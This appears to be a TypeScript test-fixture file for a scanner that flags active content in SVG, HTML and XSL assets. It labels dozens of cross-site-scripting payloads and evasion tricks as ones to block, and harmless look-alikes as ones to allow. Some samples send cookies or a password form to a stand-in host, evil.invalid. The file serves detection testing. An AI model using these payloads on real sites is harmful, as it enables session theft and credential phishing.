import type { Sample } from "../sample.ts";

/** Pages, pictures and data in markup: what acts, what only looks like it. */
export const DOCUMENTS: readonly Sample[] = [
  ["block", { "assets/a.svg": `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>` }],
  ["block", { "assets/a.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>` }],
  ["block", { "assets/a.svg": `<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script><![CDATA[alert(1)]]></svg:script></svg:svg>` }],
  ["block", { "assets/a.svg": `<svg><a xlink:href="java&#115;cript:alert(1)"><text>x</text></a></svg>` }],
  ["block", { "assets/a.svg": `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg>&x;</svg>` }],
  [
    "noblock",
    {
      "assets/a.svg": `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg viewBox="0 0 1 1"><path d="M0 0"/></svg>`,
    },
  ],
  [
    "clean",
    {
      "assets/a.svg": `<?xml version="1.0"?><svg viewBox="0 0 1 1"><style>.a{fill:red}</style><title>one on = two</title><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">label</div></foreignObject></svg>`,
    },
  ],
  [
    "noblock",
    {
      "assets/a.html": `<!doctype html><html><body><script>const el = document.getElementById("x"); el.textContent = "hi"; el.addEventListener("click", () => { el.classList.toggle("open"); });</script></body></html>`,
    },
  ],
  ["block", { "assets/a.html": "<!doctype html><script>eval(location.hash.slice(1))</script>" }],
  ["block", { "assets/a.html": `<!doctype html><body onload="eval(name)">` }],
  ["block", { "assets/a.html": `<!doctype html><a href="javascript:eval(name)">x</a>` }],
  ["block", { "assets/a.html": `<!doctype html><iframe srcdoc="&lt;script&gt;eval(name)&lt;/script&gt;"></iframe>` }],
  ["block", { "assets/a.html": `<!doctype html><script src="https://evil.invalid/x.js"></script>` }],
  ["noblock", { "assets/a.html": `<!doctype html><script src="https://cdn.invalid/lib@1.2.3/x.js"></script>` }],
  ["grant", { "assets/a.html": `<!doctype html><script>fetch("https://evil.invalid/?" + document.cookie)</script>` }],
  ["block", { "assets/a.html": `<!doctype html><script type="module">import x from "https://evil.invalid/x.js"; x();</script>` }],
  ["block", { "assets/a.html": "<!doctype html><script><!--\nalert(1)\n//--></script>" }],
  ["block", { "assets/a.html": `<!doctype html><img src=x onerror=setTimeout("alert(1)")>` }],
  ["block", { "assets/a.html": `<!doctype html><meta http-equiv="refresh" content="0;url=javascript:alert(1)">` }],
  ["block", { "assets/a.html": `<!doctype html><base href="https://evil.invalid/"><script src="a.js"></script>` }],
  ["grant", { "assets/a.html": `<!doctype html><form action="https://evil.invalid/login"><input type=password></form>` }],
  ["block", { "assets/a.html": "<!doctype html><textarea><script>x</script></textarea><script>Function(x)()</script>" }],
  [
    "clean",
    {
      "assets/a.html": "<!doctype html><p>Use &lt;script&gt; to run eval(1)</p><!-- eval(x) --><textarea><script>eval(x)</script></textarea><style>a{}</style>",
    },
  ],
  ["noblock", { "assets/a.html": `<!doctype html><script>const data = {{ DATA }}; const t = "{{title}}"; document.title = t; console.log(data);</script>` }],
  [
    "noblock",
    { "assets/a.html": `<!doctype html><script type="application/json">{"eval": "eval(1)"}</script><script type="text/template"><b>{{x}}</b></script>` },
  ],
  ["block", { "assets/a.html": "<html><svg><script>&#101;val(name)</script></svg></html>" }],
  ["block", { "assets/a.html": `<!doctype html><script>var a = "<!--<script>"; </script><script>x</script>--><script>eval(a)</script>` }],
  ["block", { "assets/a.html": `<script src="./data.txt"></script>`, "assets/data.txt": "eval(name);" }],
  ["block", { "assets/a.html": `<!doctype html><object data="data:text/html;base64,PHNjcmlwdD5ldmFsKG5hbWUpPC9zY3JpcHQ+"></object>` }],
  ["block", { "assets/a.html": `<!doctype html><button formaction="javascript:eval(name)">` }],
  ["block", { "assets/a.html": `<!doctype html><script language="vbscript">x</script><script type="text/vbscript">CreateObject("WScript.Shell")</script>` }],
  [
    "block",
    { "a.xsl": `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><msxsl:script language="JScript">x()</msxsl:script></xsl:stylesheet>` },
  ],
  ["clean", { "a.xml": `<?xml version="1.0"?><project><description>on = 1</description><option name="onstart" value="x"/></project>` }],
  ["block", { "assets/a.svg": `<svg><set attributeName="href" to="javascript:eval(1)"/></svg>` }],
  ["block", { "assets/a.html": '<!doctype html><script>document.write("<script>alert(1)<\\/script>")</script>' }],
  [
    "noblock",
    {
      "assets/a.html": `<!doctype html><button onclick="showTab('a', event)">a</button><script>function showTab(x, e) { e.preventDefault(); document.body.dataset.tab = x; }</script>`,
    },
  ],
  ["noblock", { "assets/a.html": `<!doctype html><a href="javascript:void(0)" onclick="return false">x</a>` }],
  ["block", { "assets/a.html": `<!doctype html><div style="x" onmouseover=" window['ev'+'al'](name) ">` }],
  ["block", { "assets/a.html": "<!doctype html><script src=//evil.invalid/x.js></script>" }],
  ["block", { "assets/a.html": `<!doctype html><script src="data:text/javascript,eval(1)"></script>` }],
  ["block", { "assets/a.html": '<html><body><a href=" &#x6A;ava\tscript&colon;eval(1)">x</a></body></html>' }],
  ["block", { "assets/a.html": "<html><link rel=x><img/src/onerror=eval(1)></html>" }],
  ["block", { "assets/a.html": "<html><script/>eval(1)</script></html>" }],
  ["block", { "assets/a.html": "<html><!--><script>eval(1)</script>--></html>" }],
  ["block", { "assets/a.html": "<html><!-- x --!><script>eval(1)</script> --></html>" }],
  ["block", { "assets/a.html": "<html><title><!--</title><script>eval(1)</script>--></html>" }],
];
